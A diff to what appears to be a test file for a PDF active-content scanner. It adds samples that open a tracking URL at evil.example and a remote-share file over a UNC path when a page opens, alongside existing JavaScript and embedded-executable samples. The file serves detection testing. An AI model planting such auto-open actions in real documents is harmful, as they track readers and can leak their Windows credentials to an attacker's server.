@@ -169,6 +169,14 @@ def stream(entries: bytes, content: bytes) -> bytes:
     return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)
 
 
+def other_file_opened_when_the_page_opens() -> bytes:
+    writer = one_page()
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): action("/GoToR", F="\\\\evil.example\\share\\a.pdf")}
+    )
+    return written(writer)
+
+
 ACTIVE_PDFS = {
     "JavaScript in the names tree": script_in_the_names_tree,
     "JavaScript as the open action": script_as_open_action,
@@ -188,6 +196,10 @@ ACTIVE_PDFS = {
     "embedded file in a compressed object stream": lambda: in_object_stream(
         b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"
     ),
+    "web address opened as the file opens": lambda: in_object_stream(
+        b"<</S/URI/URI(https://evil.example/track)>>"
+    ),
+    "other file opened when the page opens": other_file_opened_when_the_page_opens,
 }
 
 
@@ -211,9 +223,6 @@ ORDINARY_PDFS = {
     "open at the first page, with a web link": link_and_open_at_first_page,
     "jump to a page, in a compressed object stream": lambda: in_object_stream(
         b"<</S/GoTo/D[3 0 R/Fit]>>"
-    ),
-    "web link, in a compressed object stream": lambda: in_object_stream(
-        b"<</S/URI/URI(https://www.doe.go.th/)>>"
     ),
     "action that leads back to itself": lambda: in_object_stream(
         b"<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"
